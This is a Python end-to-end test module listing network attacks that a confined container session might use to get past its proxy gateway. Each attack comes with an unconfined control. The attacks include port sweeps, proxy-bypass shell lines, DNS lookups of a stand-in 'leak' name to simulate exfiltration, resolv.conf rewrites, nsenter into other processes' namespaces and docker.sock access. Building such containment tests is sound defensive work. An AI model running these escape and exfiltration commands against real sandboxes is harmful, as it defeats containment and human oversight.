"""Attacks past the gateway: the session uses the network as if there were no proxy."""

from __future__ import annotations

from tests.e2e.network.attacks.model import Attack, Told, Try, trying
from tests.e2e.network.lab import STRANGE_PORT
from tests.e2e.network.names import OPEN

_FETCH = f"import urllib.request as u; print(u.urlopen('http://{OPEN}/past', timeout=3).read().decode())"
_WEB = trying("tcp", to="<origin>:80")


def _past(name: str, what: str, attempt: Try, control: Try | None = None, witness: str = "") -> Attack:
    """The very same act succeeds in an unconfined container beside the session."""
    return Attack(
        id=name,
        what=what,
        control=control or attempt,
        attempt=attempt,
        rules=(),
        told=Told.UNHEARD,
        beside=True,
        witness=witness,
    )


def _reaching() -> tuple[Attack, ...]:
    return (
        _past("past-http", "connect to an allowed origin's address, port 80", _WEB, witness="accept"),
        _past(
            "past-https",
            "TLS to an allowed origin's address",
            trying("tcp_tls", to="<origin>:443", sni=OPEN),
            None,
            "sni",
        ),
        _past("past-foreign", "connect to another origin's address", trying("tcp", to="<foreign>:80"), None, "accept"),
        _past("past-ssh", "connect to port 22 outside", trying("tcp", to="<origin>:22"), None, "accept"),
        _past("past-smtp", "connect to port 25 outside", trying("tcp", to="<origin>:25"), None, "accept"),
        _past("past-private", "connect to a private address", trying("tcp", to="<private>:80"), None, "accept"),
        _past("past-host-bridge", "connect to this host by a bridge", trying("tcp", to="<bridge>:80"), None, "accept"),
        _past("past-host-docker0", "connect to this host by docker0", trying("tcp", to="<docker>:80"), None, "accept"),
        _past("past-host-own", "connect to this host's own address", trying("tcp", to="<machine>:80"), None, "accept"),
        _past(
            "past-host-port",
            "connect to an odd port of this host",
            trying("tcp", to=f"<docker>:{STRANGE_PORT}"),
            None,
            "accept",
        ),
        _past(
            "past-first-address",
            "connect to the first address of the session's own network",
            trying("tcp", to=f"<first>:{STRANGE_PORT}"),
            trying("tcp", to=f"<bridge>:{STRANGE_PORT}"),
            "accept",
        ),
        _past(
            "past-neighbours",
            "sweep the session's own network for other listeners",
            trying("sweep", addresses=["<first>", "<last>"], ports=[22, 53, 80, 443, 2375, 2376, STRANGE_PORT]),
            trying("sweep", addresses=["<bridge>", "<docker>"], ports=[22, 53, 80, 443, 2375, 2376, STRANGE_PORT]),
            "accept",
        ),
        _past(
            "past-gateway-ports",
            "sweep the gateway for more than its proxy",
            trying("sweep", addresses=["<gateway>"], ports=[22, 53, 80, 443, 3129, 3130, 3401, 8080]),
            trying("sweep", addresses=["<origin>"], ports=[22, 53, 80, 443, 3129, 3130, 3401, 8080]),
            "accept",
        ),
        _past(
            "past-other-session",
            "connect to a server in another session",
            trying("tcp", to="<other-session>:8000"),
            _WEB,
            "accept",
        ),
        _past(
            "past-other-gateway",
            "use another session's gateway",
            trying("tcp", to="<other-gateway>:3128", send=f"GET http://{OPEN}/ HTTP/1.0\r\nConnection: close\r\n\r\n"),
            trying("tcp", to="<origin>:80", send=f"GET http://{OPEN}/ HTTP/1.0\r\nConnection: close\r\n\r\n"),
            "request",
        ),
        _past(
            "past-gateway-outside",
            "use a gateway by its address outside",
            trying(
                "tcp", to="<gateway-outside>:3128", send=f"GET http://{OPEN}/ HTTP/1.0\r\nConnection: close\r\n\r\n"
            ),
            trying("tcp", to="<origin>:80", send=f"GET http://{OPEN}/ HTTP/1.0\r\nConnection: close\r\n\r\n"),
            "request",
        ),
        _past(
            "past-variables-unset",
            "a client whose proxy variables are unset",
            trying("shell", script=f'env -i PATH="$PATH" python3 -c "{_FETCH}"'),
            None,
            "request",
        ),
        _past(
            "past-no-proxy",
            "a client that is told to use no proxy",
            trying("shell", script=f"NO_PROXY='*' no_proxy='*' python3 -c \"{_FETCH}\""),
            None,
            "request",
        ),
    )


def _other_protocols() -> tuple[Attack, ...]:
    return (
        _past("past-quic", "UDP to port 443 outside", trying("udp", to="<origin>:443"), None, "datagram"),
        _past("past-ntp", "UDP to port 123 outside", trying("udp", to="<origin>:123"), None, "datagram"),
        _past("past-host-udp", "UDP to this host", trying("udp", to=f"<docker>:{STRANGE_PORT}"), None, "datagram"),
        _past("past-ping", "ICMP by a raw socket", trying("ping", to="<origin>")),
        _past(
            "past-ping-unprivileged",
            "ICMP by a datagram socket",
            trying("ping", to="<origin>", kind="datagram"),
        ),
        _past("past-packet", "a socket on the wire itself: reading and forging frames", trying("packet")),
        _past(
            "past-source-route",
            "TCP that asks to be routed by way of the gateway",
            trying("source_route", to="<origin>:80", by="<gateway>"),
            _WEB,
            "accept",
        ),
        _past(
            "past-six-link",
            "IPv6 to every neighbour on the link",
            trying("udp", to=f"[ff02::1%eth0]:{STRANGE_PORT}"),
            trying("udp", to=f"<docker>:{STRANGE_PORT}"),
            "datagram",
        ),
    )


def _resolving() -> tuple[Attack, ...]:
    leak = "secret-words.leak.example.net"
    return (
        _past("dns-system", "look a name up by the system's resolver", trying("look_up", name=leak), None, "query"),
        _past(
            "dns-direct", "ask the outside's name server", trying("look_up", name=leak, server="<names>"), None, "query"
        ),
        _past(
            "dns-engine",
            "ask the engine's resolver at 127.0.0.11",
            trying("look_up", name=leak, server="127.0.0.11"),
            None,
            "query",
        ),
        _past(
            "dns-gateway",
            "ask the gateway as a name server",
            trying("look_up", name=leak, server="<gateway>"),
            trying("look_up", name=leak, server="<names>"),
            "query",
        ),
        _past(
            "dns-rewritten",
            "point resolv.conf elsewhere and look up",
            trying(
                "shell",
                script="for at in 127.0.0.11 <names> <gateway>; do umount /etc/resolv.conf 2>/dev/null; "
                f"echo nameserver $at > /etc/resolv.conf; timeout 2 getent hosts {leak} && echo lab-origin; done",
                seconds=30.0,
            ),
            trying("shell", script=f"getent hosts {leak} && echo lab-origin"),
            "query",
        ),
    )


def _changing() -> tuple[Attack, ...]:
    return (
        _past("own-route", "add a default route by way of the gateway", trying("route", by="<gateway>"), _ROUTE),
        _past("own-address", "take another address, as for ARP spoofing", trying("alias", address="192.0.2.77")),
        _past(
            "own-forwarding",
            "switch forwarding on",
            trying(
                "shell",
                script="mount -o remount,rw /proc/sys; echo 1 > /proc/sys/net/ipv4/ip_forward && echo lab-origin",
            ),
        ),
        _past(
            "own-namespace",
            "make a network namespace of one's own",
            trying("shell", script="unshare --net --user --map-root-user echo lab-origin"),
            trying("shell", script="unshare --net echo lab-origin"),
        ),
        _past(
            "own-mount",
            "mount over what the session was given",
            trying("shell", script="mount -t tmpfs none /mnt && echo lab-origin; umount /mnt"),
        ),
        _past(
            "own-other-processes",
            "enter the network of a process outside",
            trying("shell", script="for one in /proc/[0-9]*; do nsenter --net=$one/ns/net echo lab-origin; done"),
        ),
        _past(
            "engine-socket",
            "talk to the engine by its socket",
            trying("unix", paths=["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]),
            trying("unix", paths=["/tmp/control.sock"], serve=True),
        ),
    )


_ROUTE = trying("route", by="<origin>")

ATTACKS = (*_reaching(), *_other_protocols(), *_resolving(), *_changing())
